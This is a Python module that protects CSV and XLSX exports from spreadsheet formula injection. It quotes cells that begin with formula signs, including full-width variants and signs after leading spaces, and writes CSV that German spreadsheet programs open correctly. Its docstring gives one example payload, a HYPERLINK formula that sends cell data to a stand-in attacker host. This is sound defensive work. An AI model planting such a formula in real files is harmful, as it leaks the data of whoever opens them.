"""Cells we write for spreadsheet programs: every CSV and XLSX export goes through here.

A spreadsheet program runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and one that
starts with a tab or carriage return after trimming it), so a contribution titled
`=HYPERLINK("http://evil.example/?"&A1)` would send a staff member's data away when they open the
export (CWE-1236, OWASP "CSV injection"). `cell_safe` puts a `'` before such a text: the cell shows
the text, the program does not run it. Numbers and dates are left alone (a negative number is a
number, not a formula).

Beyond OWASP's six signs the guard also covers
- NUL, which OWASP ASVS 5.0 (1.2.10) lists with them;
- the full-width signs `＝ ＋ － ＠`, which the Japanese (and some East Asian) versions of Excel turn
  into their ASCII forms while reading, and so run;
- any of these after leading spaces: LibreOffice Calc and Google Sheets can trim spaces on import
  ("Trim spaces"), which turns ` =1+1` into a formula.
No German text starts that way, so the guard costs nothing to ordinary cells.

`csv_bytes` writes what German spreadsheet programs open correctly: UTF-8 with a byte-order mark
(otherwise Excel reads the umlauts as Windows-1252) and semicolons (a comma is the decimal sign).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0", "＝", "＋", "－", "＠")


def cell_safe(value: Any) -> Any:
    """The value, or for a text a spreadsheet would run as a formula, the text with a `'` before it."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + value
    return value


def row_safe(row: Iterable[Any]) -> list[Any]:
    """Every cell of a row through `cell_safe` (for `csv.writer.writerow` and openpyxl's `append`)."""
    return [cell_safe(value) for value in row]


def csv_text(rows: Iterable[Iterable[Any]], *, delimiter: str = ";") -> str:
    """The rows (the header first) as CSV text with a byte-order mark, every cell through `cell_safe`."""
    buffer = io.StringIO()
    buffer.write("\ufeff")
    writer = csv.writer(buffer, delimiter=delimiter)
    for row in rows:
        writer.writerow(row_safe(row))
    return buffer.getvalue()


def csv_bytes(rows: Iterable[Iterable[Any]], *, delimiter: str = ";") -> bytes:
    """`csv_text` encoded as UTF-8: the body of a CSV download."""
    return csv_text(rows, delimiter=delimiter).encode("utf-8")
